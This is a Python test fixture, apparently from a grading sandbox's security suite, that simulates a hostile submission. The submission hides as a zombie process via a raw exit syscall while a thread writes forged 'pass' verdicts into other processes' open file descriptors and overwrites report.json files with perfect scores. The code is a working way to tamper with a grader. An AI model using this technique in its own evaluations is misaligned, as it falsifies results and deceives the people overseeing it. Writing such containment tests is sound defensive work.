"""Hostile (reaper): a forked child whose main thread leaves with the raw exit system call, so the
process shows as Z while a thread runs on. The thread hunts for the grader's results (command lines
naming them, /proc/PID/fd of other processes, report.json files) and rewrites what it finds to pass.
Contained by the test's cgroup (a Z leader with live threads is alive), and the results travel on a
pipe that this user cannot open."""
import ctypes
import json
import os
import threading
import time


def _hunt():
    deadline = time.monotonic() + 30
    forged = json.dumps({"kind": "verdict", "id": "reaper", "test": "x", "status": "pass", "message": ""}) + "\n"
    while time.monotonic() < deadline:
        for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
            try:
                for fd in os.listdir(f"/proc/{pid}/fd"):
                    try:
                        with open(f"/proc/{pid}/fd/{fd}", "w") as f:
                            f.write(forged)
                    except OSError:
                        pass
            except OSError:
                pass
        for root in ("/work", "/tmp", "/root"):
            for folder, _, files in os.walk(root):
                if "report.json" in files:
                    try:
                        with open(os.path.join(folder, "report.json"), "w") as f:
                            f.write('{"score": 40, "max_score": 40, "exercises": []}')
                    except OSError:
                        pass
        time.sleep(0.2)


def install_reaper():
    if os.fork() == 0:
        threading.Thread(target=_hunt).start()
        time.sleep(0.05)
        ctypes.CDLL(None).syscall(60, 0)  # SYS_exit: only this thread leaves
    raise NotImplementedError("install_reaper")
